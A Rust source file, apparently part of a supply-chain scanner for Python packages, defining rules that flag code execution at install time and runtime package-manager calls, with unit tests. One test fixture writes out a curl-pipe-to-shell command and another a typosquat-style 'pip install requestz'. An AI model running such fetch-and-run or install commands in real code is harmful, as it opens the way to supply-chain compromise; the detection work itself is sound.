//! Installation rules: code that runs at `pip install` time and runtime
//! package installation.

use super::{RuleDescriptor, RuleHit, SHELL_FUNCS};
use crate::engine::callsite::{string_literal, CallSite};
use crate::types::{RuleCategory, Severity};

/// Execution entry points that are suspect in install-time code.
const INSTALL_EXEC_FUNCS: &[&str] = &[
    "os.system",
    "os.popen",
    "os.spawnl",
    "os.spawnv",
    "subprocess.Popen",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_output",
    "exec",
    "eval",
];

/// Package manager invocations that pull in unlisted dependencies.
const PACKAGE_MANAGER_COMMANDS: &[&str] = &[
    "pip install",
    "pip3 install",
    "python -m pip install",
    "npm install",
    "yarn add",
    "apt install",
    "apt-get install",
    "yum install",
    "dnf install",
];

pub(super) const RULES: &[RuleDescriptor] = &[
    RuleDescriptor {
        id: "INSTALL_SETUP_EXEC",
        category: RuleCategory::Installation,
        brief: "Code execution reachable at install time",
        check: setup_exec,
    },
    RuleDescriptor {
        id: "INSTALL_PIP_INSTALL",
        category: RuleCategory::Installation,
        brief: "Runtime invocation of a package manager",
        check: pip_install,
    },
];

fn setup_exec(site: &CallSite) -> Option<RuleHit> {
    let callee = site.callee()?;
    if INSTALL_EXEC_FUNCS.contains(&callee) {
        return Some(RuleHit::new(
            format!("Code execution during installation detected: {callee}()."),
            Severity::Warning,
        ));
    }
    None
}

/// First positional argument flattened to a command string: a string literal
/// directly, or the string elements of a list joined with spaces.
fn command_string(site: &CallSite) -> Option<String> {
    if let Some(cmd) = site.arg_string(0) {
        return Some(cmd);
    }

    let arg0 = site.arg(0)?;
    if arg0.kind() != "list" {
        return None;
    }

    let mut parts = Vec::new();
    let mut cursor = arg0.walk();
    for entry in arg0.named_children(&mut cursor) {
        if let Some(s) = string_literal(entry, site.source()) {
            parts.push(s);
        }
    }
    if parts.is_empty() {
        None
    } else {
        Some(parts.join(" "))
    }
}

fn pip_install(site: &CallSite) -> Option<RuleHit> {
    let callee = site.callee()?;
    if !SHELL_FUNCS.contains(&callee) {
        return None;
    }

    let command = command_string(site)?.to_lowercase();
    for manager in PACKAGE_MANAGER_COMMANDS {
        if command.contains(manager) {
            return Some(RuleHit::new(
                format!("Dynamic package installation detected: '{manager}' via {callee}()."),
                Severity::Critical,
            ));
        }
    }

    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::walker::walk;
    use crate::rules::RuleRegistry;
    use crate::types::Finding;

    fn findings(source: &str) -> Vec<Finding> {
        walk(source, RuleRegistry::builtin())
    }

    fn has(findings: &[Finding], rule_id: &str, severity: Severity) -> bool {
        findings
            .iter()
            .any(|f| f.rule_id == rule_id && f.severity == severity)
    }

    #[test]
    fn os_system_flags_install_exec() {
        let found = findings("import os\nos.system('curl https://example.com | sh')\n");
        assert!(has(&found, "INSTALL_SETUP_EXEC", Severity::Warning));
    }

    #[test]
    fn pip_install_via_string_is_critical() {
        let found = findings("import os\nos.system('pip install requestz')\n");
        assert!(has(&found, "INSTALL_PIP_INSTALL", Severity::Critical));
    }

    #[test]
    fn pip_install_via_list_is_critical() {
        let found = findings(
            "import subprocess\nsubprocess.run(['pip', 'install', 'requestz'])\n",
        );
        assert!(has(&found, "INSTALL_PIP_INSTALL", Severity::Critical));
    }

    #[test]
    fn unrelated_command_is_clean() {
        let found = findings("import subprocess\nsubprocess.run(['ls', '-la'])\n");
        assert!(!found.iter().any(|f| f.rule_id == "INSTALL_PIP_INSTALL"));
    }
}
